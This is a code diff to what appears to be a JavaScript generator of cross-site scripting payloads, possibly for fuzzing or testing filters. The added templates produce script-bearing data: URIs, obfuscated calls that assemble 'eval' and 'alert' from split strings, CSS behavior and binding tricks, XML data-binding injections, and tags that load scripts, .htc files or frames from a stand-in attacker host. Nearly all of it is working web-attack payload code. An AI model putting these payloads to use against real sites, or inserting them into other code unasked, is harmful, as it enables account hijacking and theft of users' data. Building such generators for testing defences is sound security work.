@@ -183,7 +183,7 @@ const scriptUrl = mostly(
   [vbscript, 0.6],
   [text`data:text/html${oneOf(',', ';charset=utf-8,', ';,')}<script>${script}</script>`, 1],
   [altered(text`<script>${script}</script>`, (markup) => `data:text/html;base64,${base64(markup)}`), 1.5],
-  [altered(text`<svg onload=${script}>`, (markup) => `data:${'image/svg+xml'};base64,${base64(markup)}`), 0.7],
+  [altered(text`<svg onload=${script}>`, (markup) => `data:text/html;charset=utf-7;base64,${base64(markup)}`), 0.5],
   [text`data:${oneOf('application/x-javascript', 'text/javascript', 'application/javascript', '')},${script}`, 0.6],
   [text`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`, 0.4],
   [text`data:text/html,%3Cscript%3E${dialogue}(${integer(1, 99)})%3C%2Fscript%3E`, 0.4]
@@ -483,6 +483,17 @@ export const elementTemplates = family('cross-site-scripting/element', {
       text`<t:animate attributename="innerHTML" values="<img src=x onerror=${script}>"/>`
     )
   ),
+  locator: text`${oneOf("'';!--\"", ';!--"', "'\"`", '"><', "';", '<!--')}<${oneOf('xss', 'crosssitescripting', 'x', lowerWord)}${maybe('>')}${oneOf('=&{()}', '=', '>', "'\"", '=&{(alert(1))}', '`')}`,
+  'unknown-handler': anywhere(text`<${oneOf('x', '%78', 'xss', lowerWord)}${oneOf(' ', '%20', '/', '\n', '%0a', '\t', " 1='1'", ' 1=">"', ' a="b"')}${maybe(' ')}on${oneOf('xxx', lowerWord, 'x')}${equals}${oneOf('1', script, '""')}${ending}`),
+  'split-names': oneOf(text`<img src=1 alt=al lang=ert onerror=top[alt+lang](${integer(0, 9)})>`, text`${letters(LOWER)}=0||'ev'+'al',${letters(LOWER)}=0||location.hash,${letters(LOWER)}=0||'sub'+'str',1[${letters(LOWER)}](${letters(LOWER)}[${letters(LOWER)}](1))`, text`<svg id=al class=ert onload=top[id+className](1)>`, text`var ${letters(LOWER)}='al';var ${letters(LOWER)}='ert';window[${letters(LOWER)}+${letters(LOWER)}](1)`, text`${letters(LOWER)}=/ev/.source;${letters(LOWER)}+=/al/.source;this[${letters(LOWER)}](name)`),
+  'binding': anywhere(text`<${oneOf('div', 'xss', tag)} style=${quoted(text`${words('behavior behaviour binding -moz-binding')}:${maybe(' ')}url(${oneOf('[link to code]', text`${attackerUrl}#xss`, text`${lowerWord}.htc`, text`mocha:[code]`)})${maybe(';')}`)}>`),
+  'data-binding': anywhere(oneOf(text`<span datasrc=${quoted(text`#${lowerWord}`)} datafld=${quoted(letters(LOWER))} dataformatas=${quoted('html')}></span>`, text`<?import namespace="${lowerWord}" implementation="${oneOf('#default#time2', text`${attackerUrl}`, text`http://${attackerHost}/${lowerWord}.htc`)}">`, text`<html xmlns:${lowerWord}><?import namespace="${lowerWord}" implementation="http://${attackerHost}/${lowerWord}.htc"><${lowerWord}:${lowerWord}>`, text`<xml id=${letters(LOWER)}><x><c><![cdata[<img src="javas]]><![cdata[cript:${script}">]]></c></x></xml><span datasrc=#${letters(LOWER)} datafld=c dataformatas=html></span>`, text`<?xml:namespace prefix="${letters(LOWER)}" ns="urn:schemas-microsoft-com:time">`)),
+  'telling-link': anywhere(text`<a href=${quoted(text`http://${oneOf(attackerHost, integer(100_000_000, 3_999_999_999), text`0x${letters('0123456789abcdef', 8)}`, 'www.google.com./')}/`)}>${oneOf('xss', 'XSS', 'crosssitescripting', 'click me', 'hacked')}</a>`),
+  'remote-layer': anywhere(text`<${words('layer ilayer bgsound embed frame applet link')} ${words('src href code')}=${quoted(text`http://${attackerHost}/${oneOf('xss', 'script', 'crosssitescripting', lowerWord)}.${words('js html css htc swf')}`)}${ending}`),
+  'attribute-hiding-end': anywhere(text`<script ${letters(LOWER)}=${oneOf('">"', "'>'", '`>`', '">\'>"')} ${maybe("'' ")}src=${quoted(text`http://${attackerHost}/${lowerWord}.js`)}></script>`),
+  'markup-injection': text`${oneOf('">', "'>", '</title>', '</textarea>', '">\n')}${oneOf(text`<h1>${lowerWord}</h1>`, text`<${words('b i u br marquee s plaintext')}>${oneOf('x', lowerWord)}</${words('b i u marquee s')}>`, text`<marquee>${lowerWord} ${lowerWord}</marquee>`, text`<br><br><b><u>${lowerWord}</u></b>`, text`<img src="${lowerWord}.png" alt="${lowerWord}">`, text`<iframe src="http://${attackerHost}/"></iframe>`)}`,
+  'stripped-brackets': text`${maybe(lowerWord)}${oneOf('script', 'ſcript', '¼script¾', ' script ')}${script}${oneOf('/script', '¼/script¾', ' /script')}`,
+  'half-script': anywhere(oneOf(text`<script>${letters(LOWER)}=/xss/${maybe(';')}`, text`<script>${letters(LOWER)}=eval;${letters(LOWER)}=alert;`, text`<? echo('<scr)'; echo('ipt>${script}</script>'); ?>`, text`<% ${script} %>`, text`mhtml:http://${attackerHost}/${lowerWord}.html!xss.html`, text`<iframe src=mhtml:http://${attackerHost}/${lowerWord}.html!${lowerWord}></iframe>`)),
   'csp-gadget': anywhere(
     oneOf(
       text`<script src="https://${words('accounts.google.com www.google.com cdnjs.cloudflare.com ajax.googleapis.com')}/${lowerWord}/jsonp?callback=${dialogue}"></script>`,
